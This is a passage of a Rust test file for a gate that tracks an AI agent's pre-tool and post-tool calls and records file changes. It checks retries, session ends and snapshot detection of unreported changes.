    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "new");
    settle_and_trap(&mut house, "1", "src/auth/a.ts");
    assert_eq!(entered(&house), []);
    // Whoever began may still be at it.
    house.call("pre-tool", ("t", "2"), "write", write("src/auth/b.ts"));
    house.world.write("src/auth/b.ts", "new");
    house.call("post-tool", ("t", "2"), "write", write("src/auth/b.ts"));
    assert_eq!(entered(&house).len(), 1);
    house.world.pass(10_000);
    house.call("pre-tool", ("t", "3"), "write", write("src/auth/b.ts"));
    house.world.write("src/auth/b.ts", "newer");
    house.call("post-tool", ("t", "3"), "write", write("src/auth/b.ts"));
    let entries = entered(&house);
    assert_eq!(entries.len(), 3, "{entries:?}");
    assert_eq!(entries[2], (json!("src/auth/a.ts"), json!(false), json!(UNKNOWN), json!("PASS")));
    assert_eq!(house.world.count(&format!("{STATE}/calls")), 0);
    // A host that tells once more has nothing to add.
    assert_eq!(house.call("post-tool", ("s", "1"), "write", write("src/auth/a.ts"))["entries"], json!([]));
}

/// A call on which the gate fails every time does not keep the others from being entered.
#[test]
fn a_call_that_traps_again_and_again_is_given_up() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "new");
    for _ in 0..3 {
        settle_and_trap(&mut house, "1", "src/auth/a.ts");
        house.world.pass(10_000);
    }
    let settled = house.call("post-tool", ("s", "1"), "write", write("src/auth/a.ts"));
    assert!(settled["notice"].as_str().unwrap().contains("the gate failed 3 times"), "{settled}");
    let entries = entered(&house);
    assert_eq!((entries.len(), &entries[0].0, &entries[0].3), (1, &json!(null), &json!("FAIL")));
    assert_eq!(house.world.count(&format!("{STATE}/calls")), 0);
}

/// When a session ends, nobody will tell any more how its calls did.
#[test]
fn a_session_that_ends_leaves_nothing_unentered() {
    let mut house = shared();
    for (session, call, path) in [("s", "1", "src/auth/a.ts"), ("s", "2", "src/auth/new.ts"), ("t", "3", "src/auth/b.ts")] {
        expect(&house.call("pre-tool", (session, call), "write", write(path)), "allow", "in_scope");
    }
    house.world.write("src/auth/a.ts", "new");
    house.world.write("src/auth/b.ts", "new");
    house.restart();
    let input = json!({"type": "event", "event": "session_end", "session": "s", "data": {}});
    house.gate.step(0, &[Input::from_json(&input)]);
    assert_eq!(entered(&house), [(json!("src/auth/a.ts"), json!(false), json!(UNKNOWN), json!("PASS"))]);
    assert_eq!(house.world.count(&format!("{STATE}/calls")), 1, "the other session is still at work");
}

/// What a program changed that nobody told the end of is found by the snapshot, as it always is.
#[test]
fn a_program_whose_end_nobody_told_is_looked_after() {
    let mut house = shared();
    expect(&house.call("pre-tool", ("s", "1"), "bash", json!({"command": "npm test"})), "allow", "in_scope");
    house.world.write("README.md", "changed");
    house.restart();
    house.ask(json!({"op": "event", "event": "session_end", "session": "s", "data": {}}));
    let entries = entered(&house);
    assert_eq!((entries.len(), &entries[0].0, &entries[0].3), (1, &json!("README.md"), &json!("FAIL")));
}
